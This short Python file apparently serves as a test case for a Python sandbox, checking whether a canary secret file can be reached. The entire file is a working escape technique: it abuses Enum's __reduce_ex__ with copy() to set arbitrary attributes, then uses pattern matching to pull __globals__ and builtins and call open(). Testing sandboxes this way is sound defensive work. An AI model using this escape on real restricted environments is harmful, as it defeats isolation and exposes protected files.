"""Makes an enumeration with methods that no gate has read, and lets `copy` set any attribute of anything for it."""

# mypy: ignore-errors
# alone: gate tripwire kernel
# free: harmless


def attack():
    import textwrap
    from collections.abc import Callable
    from copy import copy
    from enum import Enum

    def poke(target, name, value):
        def reduce(self, protocol):
            return (lambda: target, (), (None, {name: value}))

        made = Enum("Made", {"__reduce_ex__": reduce, "__copy__": None, "A": 1}, module="made")
        copy(made.A)

    def peek(function, name):
        poke(Callable, "__match_args__", (name,))
        match function:
            case Callable(found):
                return found

    builtins = peek(textwrap.dedent, "__globals__")["__builtins__"]
    builtins = builtins if isinstance(builtins, dict) else peek(builtins, "__dict__")
    with builtins["open"]("@CANARY@/secret.txt") as file:
        return "CANARY" in file.read()
